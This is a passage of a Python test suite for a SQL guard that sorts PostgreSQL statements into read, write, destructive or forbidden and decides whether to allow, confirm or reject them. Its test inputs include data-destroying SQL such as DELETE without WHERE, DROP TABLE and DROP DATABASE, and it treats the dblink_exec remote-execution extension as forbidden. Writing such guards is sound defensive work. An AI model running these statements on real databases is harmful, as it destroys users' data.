        Call(VIEW, _builtin("pg_stat_reset", "v")),
        _runs("delete from app.other"),
    )
    assert (verdict.action, verdict.category) == ("confirm", "destructive")
    assert "pg_stat_reset()" in verdict.reason


def test_forbidden_anywhere_in_the_closure_rejects_in_every_mode() -> None:
    dblink = Call(VIEW, _user("dblink_exec", "c", "v", extension="dblink", library="dblink"))
    for mode in ("full", "read-only"):
        verdict = _decide("select * from app.v", mode, Call(VIEW, _builtin("lower")), dblink)  # type: ignore[arg-type]
        assert (verdict.action, verdict.category) == ("reject", "forbidden")


def test_plain_explain_is_judged_by_what_planning_runs() -> None:
    # The closure of a plain EXPLAIN holds only what the planner may execute (non-volatile functions it folds).
    assert _decide("explain select * from app.v", "read-only").action == "allow"
    verdict = _decide("explain select * from app.v", "read-only", _runs("delete from app.other"))
    assert verdict.action == "reject"
    assert "function app.f() → DELETE without WHERE" in verdict.reason


def test_writes_set_off_by_a_write_need_confirmation_in_full_mode() -> None:
    beyond = Write(("trigger w on app.t", "function app.wipe()"), "app.other", "delete", own=False)
    verdict = _decide("insert into app.t values (1)", "full", beyond)
    assert (verdict.action, verdict.category) == ("confirm", "destructive")
    assert verdict.reason.startswith("trigger w on app.t → function app.wipe() → deletes rows of app.other")
    own = Write(("trigger touch on app.t",), "app.t", "update", own=True)
    assert _decide("insert into app.t values (1)", "full", own).category == "write"


def test_closures_must_match_the_statements() -> None:
    with pytest.raises(InvalidInput):
        decide(analyze("select 1; select 2"), "full", [Closure()])


# --- needs_autocommit -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "needs_autocommit"),
    [
        ("create index concurrently i on t (a)", True),
        ("create index i on t (a)", False),
        ("drop index concurrently i", True),
        ("drop index i", False),
        ("create database d", True),
        ("drop database d", True),
        ("vacuum t", True),
        ("vacuum full t", True),
        ("analyze t", False),
        ("reindex (concurrently) table t", True),
        ("reindex database d", True),
        ("reindex table t", False),
        ("cluster", True),
        ("cluster t using i", False),
        ("alter table p detach partition c concurrently", True),
        ("alter table p detach partition c", False),
        ("alter database d set tablespace x", True),
        ("create tablespace ts location '/x'", True),
        ("select 1", False),
        ("delete from t", False),
    ],
)
def test_needs_autocommit(sql: str, needs_autocommit: bool) -> None:
    assert _classify(sql).needs_autocommit is needs_autocommit


# --- scripts --------------------------------------------------------------------------------------------------------


def test_script_verdict_is_the_strictest_and_names_the_statement() -> None:
    verdict = _decide("select 1; drop table t; insert into t values (1)")
    assert (verdict.action, verdict.category) == ("confirm", "destructive")
    assert verdict.reason.startswith("statement 2: DROP TABLE deletes t")
    assert [c.category for c in verdict.statements] == ["read", "destructive", "write"]
    assert [c.index for c in verdict.statements] == [0, 1, 2]
    assert not verdict.read_only


def test_forbidden_statement_anywhere_rejects_the_script() -> None:
    verdict = _decide("select 1; drop table t; listen c", "full")
    assert (verdict.action, verdict.category) == ("reject", "forbidden")
    assert verdict.reason.startswith("statement 3: LISTEN")


def test_first_of_equally_strict_statements_is_named() -> None:
    verdict = _decide("insert into a values (1); insert into b values (2)", "read-only")
    assert "statement 1 is a write: INSERT adds rows to a" in verdict.reason


def test_script_of_reads_is_read_only() -> None:
    verdict = _decide("set local work_mem = '64MB'; select 1; explain delete from t", "read-only")
    assert (verdict.action, verdict.category, verdict.read_only) == ("allow", "read", True)


def test_writes_are_allowed_in_full_mode() -> None:
    verdict = _decide("insert into t values (1); create table u (a int)", "full")
    assert (verdict.action, verdict.category) == ("allow", "ddl")
    assert verdict.reason == "statement 2: CREATE TABLE changes the database's definitions."


def test_unknown_mode_counts_as_read_only() -> None:
    verdict = decide(analyze("insert into t values (1)"), "readwrite")  # type: ignore[arg-type]
    assert verdict.action == "reject"


def test_no_statement_is_invalid_input() -> None:
    with pytest.raises(InvalidInput):
        decide((), "full")


def test_classification_of_one_statement() -> None:
    (facts,) = analyze("delete from t")
    assert classify(facts) == Classification(0, "destructive", "DELETE without WHERE removes every row of t")
